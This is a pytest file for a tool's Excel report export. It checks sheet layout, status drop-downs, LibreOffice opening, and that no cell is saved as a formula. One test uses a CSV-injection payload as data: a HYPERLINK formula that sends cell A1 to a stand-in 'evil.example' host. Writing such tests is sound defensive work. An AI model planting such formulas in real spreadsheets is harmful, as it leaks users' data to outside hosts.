"""Workbooks, read back with openpyxl and, where it is installed, opened by LibreOffice."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from discrepancy.model import Report
from discrepancy.report import FORMATS, Display, Listing, write
from tests.report.test_check import turn

form = FORMATS["xlsx"]


def open_book(content: str | bytes) -> Workbook:
    assert isinstance(content, bytes)
    return load_workbook(io.BytesIO(content))


def rows_of(book: Workbook, title: str) -> list[dict[str, Any]]:
    heads, *rows = book[title].iter_rows(values_only=True)
    return [dict(zip(heads, row, strict=True)) for row in rows]


def cells_of(book: Workbook) -> Iterator[Any]:
    return (cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None)


def test_conflicts_with_their_words_and_a_column_for_the_desk(report: Report) -> None:
    book = open_book(form.report(report, Display()))
    assert book.sheetnames == ["Conflicts", "Sources"]
    rows = rows_of(book, "Conflicts")
    assert [row["id"] for row in rows] == [finding.id for finding in report.conflicts]
    assert [rows[0][name] for name in ("A words", "A line", "B words", "status", "note")] == [
        "14",
        report.a.locate(report.conflicts[0].a.start)[0],
        "Sixteen people",
        "open",
        None,
    ]
    assert [row["id"] for row in rows_of(book, "Sources")] == ["courier", "harbor"]
    with_agreements = open_book(form.report(report, Display(agreements=True)))
    assert [row["severity"] for row in rows_of(with_agreements, "Conflicts")].count("agree") == 3


@pytest.mark.parametrize("many", [False, True])
def test_the_sheet_is_made_to_work_in(report: Report, many: bool) -> None:
    book = open_book(form.check(turn(report), Display()) if many else form.report(report, Display()))
    page = book["Conflicts"]
    assert page.freeze_panes == "A2"
    assert page.auto_filter.ref.startswith("A1:")
    assert page.auto_filter.ref.endswith(str(len(report.conflicts) + 1))
    assert page.column_dimensions["E"].width == 40
    (choice,) = page.data_validations.dataValidation
    assert choice.formula1 == '"open,confirmed,corrected,dismissed"'
    assert str(choice.sqref) == f"F2:F{len(report.conflicts) + 1}"
    assert page["F1"].value == "status"
    assert page["A1"].font.bold


def test_a_check_has_a_column_a_source_and_its_passages(report: Report) -> None:
    checked = turn(report)
    book = open_book(form.check(checked, Display(paths={"courier": "courier.txt"})))
    assert book.sheetnames == ["Conflicts", "Passages", "Missing", "Sources"]
    rows = rows_of(book, "Conflicts")
    assert [row["id"] for row in rows] == [fact.id for fact in checked.disputed]
    assert (rows[0]["wire"], rows[0]["harbor"], rows[0]["echo"]) == ("14", "Sixteen people", "Sixteen people")
    assert len(rows_of(book, "Passages")) == 3 * len(checked.disputed)
    assert {row["stated by"] for row in rows_of(book, "Missing")} == {"2 of 2 state it"}
    sources = rows_of(book, "Sources")
    assert [row["repeats"] for row in sources] == [None, None, "harbor", None]
    assert "there is no such file" in sources[3]["title"]


def test_a_listing_is_a_sheet_of_facts(listing: Listing) -> None:
    book = open_book(form.listing(listing, Display()))
    assert [row["surface"] for row in rows_of(book, "Facts")] == [each.surface for each in listing.mentions]


def test_no_cell_is_a_formula_and_the_text_stays_what_it_was(hostile: Report) -> None:
    for content in (form.report(hostile, Display()), form.check(turn(hostile), Display())):
        for cell in cells_of(open_book(content)):
            assert cell.data_type != "f", cell.value
            if str(cell.value)[:1] in ("=", "+", "-", "@"):
                assert cell.quotePrefix, cell.value
        assert isinstance(content, bytes)
        with zipfile.ZipFile(io.BytesIO(content)) as book:
            sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/sheet")]
            assert not [name for name in sheets if b"<f>" in book.read(name)]


def test_a_formula_as_a_sentence_is_text(make_report: Any) -> None:
    text = '=HYPERLINK("http://evil.example/?q="&A1,"click 40")'
    book = open_book(form.report(make_report(text, "plain 40", "40"), Display()))
    assert rows_of(book, "Conflicts")[0]["A sentence"] == text


def test_a_sheet_without_findings_has_no_drop_down(report: Report) -> None:
    from dataclasses import replace

    book = open_book(form.report(replace(report, conflicts=()), Display()))
    assert rows_of(book, "Conflicts") == []
    assert not book["Conflicts"].data_validations.dataValidation


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
def test_libreoffice_opens_it(report: Report, tmp_path: Path) -> None:
    write(form.check(turn(report), Display()), tmp_path / "check.xlsx")
    as_text = "csv:Text - txt - csv (StarCalc):44,34,76,1"
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    done = subprocess.run(
        ["soffice", "--headless", profile, "--convert-to", as_text, "--outdir", "out", "check.xlsx"],
        cwd=tmp_path,
        capture_output=True,
        timeout=180,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    with (tmp_path / "out" / "check.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["id"] for row in rows] == [finding.id for finding in report.conflicts]
    assert {row["status"] for row in rows} == {"open"}
